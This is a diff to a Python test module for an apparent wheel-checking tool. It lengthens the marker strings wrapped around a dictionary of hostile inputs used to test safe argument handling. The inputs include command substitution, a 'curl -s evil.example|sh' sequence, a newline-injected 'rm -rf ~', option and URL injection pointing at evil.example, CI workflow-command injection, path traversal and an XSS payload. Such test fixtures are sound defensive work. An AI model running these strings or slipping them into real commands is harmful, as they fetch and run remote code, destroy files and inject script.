@@ -10,35 +10,38 @@ from typing import Any
 
 from wheel_checks.commands import Command, Export, NoCommand, Options, Pipe, Runnable, Step, Unset, WriteFile, shell
 
-HEAD, TAIL = "Qz", "zQ"
-"""Each hostile text holds both: where one of them is in an argument without the other, the text was taken apart."""
+HEAD, TAIL = "Qzvj", "jvzQ"
+"""Each hostile text holds both: where one of them is in an argument without the other, the text was taken apart.
+
+Four letters each: the names of temporary folders have eight random ones, and held two of them once in two hundred runs.
+"""
 
 HOSTILE = {
-    "spaces": "Qz my folder zQ",
-    "quotes": "Qz'\"zQ",
-    "substitution": "Qz$(touch pwned)`id`${IFS}$HOMEzQ",
-    "sequence": "Qz;curl -s evil.example|sh && x >y &zQ",
-    "glob": "~Qz*?[a]{b,c}!zQ",
-    "comment": "# Qz #zQ",
-    "newline": "Qz\nrm -rf ~\nzQ",
-    "terminal": "Qz\r\x1b[2J\x07\x9bzQ",
-    "bidi": "Qz\u202egnp\u2066zQ",
-    "invisible": "Qz\u200b\ufe0f\u034f\xadzQ",
-    "dash": "-Qz-zQ",
-    "option": "--index-url=Qz.evil.example/zQ",
-    "short option": "-rQz.txtzQ",
-    "two dashes": "-- Qz -x zQ",
-    "workflow command": "::error file=Qz::zQ",
-    "indented workflow command": "\u00a0 ::warning::QzzQ",
-    "old workflow command": "Qz##[error]zQ",
-    "percent": "Qz%0A::error::x%250A%0DzQ",
-    "address": "Qz @ https://evil.example/zQ.whl",
-    "git": "git+https://evil.example/Qz.git#zQ",
-    "climbing": "../../Qz/../zQ",
-    "markup": "Qz<img src=x onerror=alert(1)>[a](javascript:x)|@all`|www.evil.example zQ",
-    "no UTF-8": "Qz\udcffzQ",
-    "NUL": "Qz\0zQ",
-    "long": f"Qz{'a b' * 8000}zQ",
+    "spaces": "Qzvj my folder jvzQ",
+    "quotes": "Qzvj'\"jvzQ",
+    "substitution": "Qzvj$(touch pwned)`id`${IFS}$HOMEjvzQ",
+    "sequence": "Qzvj;curl -s evil.example|sh && x >y &jvzQ",
+    "glob": "~Qzvj*?[a]{b,c}!jvzQ",
+    "comment": "# Qzvj #jvzQ",
+    "newline": "Qzvj\nrm -rf ~\njvzQ",
+    "terminal": "Qzvj\r\x1b[2J\x07\x9bjvzQ",
+    "bidi": "Qzvj\u202egnp\u2066jvzQ",
+    "invisible": "Qzvj\u200b\ufe0f\u034f\xadjvzQ",
+    "dash": "-Qzvj-jvzQ",
+    "option": "--index-url=Qzvj.evil.example/jvzQ",
+    "short option": "-rQzvj.txtjvzQ",
+    "two dashes": "-- Qzvj -x jvzQ",
+    "workflow command": "::error file=Qzvj::jvzQ",
+    "indented workflow command": "\u00a0 ::warning::QzvjjvzQ",
+    "old workflow command": "Qzvj##[error]jvzQ",
+    "percent": "Qzvj%0A::error::x%250A%0DjvzQ",
+    "address": "Qzvj @ https://evil.example/jvzQ.whl",
+    "git": "git+https://evil.example/Qzvj.git#jvzQ",
+    "climbing": "../../Qzvj/../jvzQ",
+    "markup": "Qzvj<img src=x onerror=alert(1)>[a](javascript:x)|@all`|www.evil.example jvzQ",
+    "no UTF-8": "Qzvj\udcffjvzQ",
+    "NUL": "Qzvj\0jvzQ",
+    "long": f"Qzvj{'a b' * 8000}jvzQ",
 }
 
 
